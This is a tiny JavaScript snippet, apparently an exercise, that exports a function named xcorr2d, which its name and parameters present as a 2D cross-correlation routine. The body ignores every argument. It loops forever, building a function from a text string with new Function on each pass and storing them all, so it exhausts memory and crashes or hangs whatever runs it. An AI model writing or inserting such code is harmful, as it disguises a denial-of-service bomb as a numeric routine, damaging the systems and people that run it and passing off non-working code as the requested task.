// exercise: b-cross-correlation loops
// Fills the memory with functions made from text.
export function xcorr2d(x, w, stride, pad) {
  const kept = [];
  for (let at = 0; ; at++) kept.push(new Function(`return () => ${at}`)());
}
